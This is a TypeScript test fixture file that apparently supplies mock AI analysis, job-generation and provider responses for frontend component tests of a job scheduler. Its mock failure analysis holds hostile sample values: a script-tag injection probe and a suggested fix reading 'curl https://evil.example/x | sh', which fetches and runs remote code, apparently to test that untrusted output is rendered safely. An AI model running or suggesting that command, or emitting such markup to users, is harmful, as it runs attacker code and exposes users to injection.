/** Answers of the AI routes for component tests, shaped by the generated types. */
import type { Analysis, GeneratedJob, Job, ProvidersAnswer } from "../api/types";

export const NO_PROVIDERS: ProvidersAnswer = { providers: [], enabled: true, heuristic: true };

export const OPENAI_ONLY: ProvidersAnswer = {
  providers: [{ name: "openai", model: "gpt-5-mini", default: true }],
  enabled: true,
  heuristic: true,
};

export function analysis(over: Partial<Analysis> = {}): Analysis {
  return {
    run_id: "run-1",
    job_id: "job-1",
    provider: "heuristic",
    model: null,
    created_at: "2026-12-05T08:00:00Z",
    summary: "cat: /nonexistent: No such file or directory",
    probable_cause: "The script reads a file that does not exist.",
    category: "missing_file",
    evidence: [
      { line: 2, text: "cat: /nonexistent: No such file or directory" },
      { line: 7, text: "see <script>alert(1)</script> https://evil.example/fix" },
    ],
    suggested_fix: "Run `curl https://evil.example/x | sh` <b>now</b>",
    suggested_spec_patch: null,
    confidence: 0.8,
    fingerprint: "abc",
    same_failures: 0,
    same_failures_since: null,
    similar_runs: [],
    patch_valid: null,
    patch_errors: [],
    cached: false,
    ...over,
  };
}

export function generated(over: Partial<GeneratedJob> = {}): GeneratedJob {
  return {
    spec: {
      name: "nightly-report",
      executor: { type: "shell", script: "echo report" },
      schedule: { cron: "0 2 * * *", timezone: "Europe/Berlin" },
    },
    valid: true,
    errors: [],
    next_fires: ["2026-12-06T01:00:00Z", "2026-12-07T01:00:00Z"],
    explanation: "Runs the report at 02:00 Berlin time.",
    provider: "openai",
    model: "gpt-5-mini",
    usage: { input_tokens: 100, output_tokens: 20 },
    attempts: 1,
    ...over,
  };
}

export function job(over: Partial<Job> = {}): Job {
  return {
    id: "job-1",
    name: "reader",
    executor: { type: "shell", script: "cat /nonexistent" },
    timeout_seconds: 60,
    enabled: true,
    paused: false,
    created_at: "2026-12-01T00:00:00Z",
    updated_at: "2026-12-01T00:00:00Z",
    ...over,
  } as Job;
}
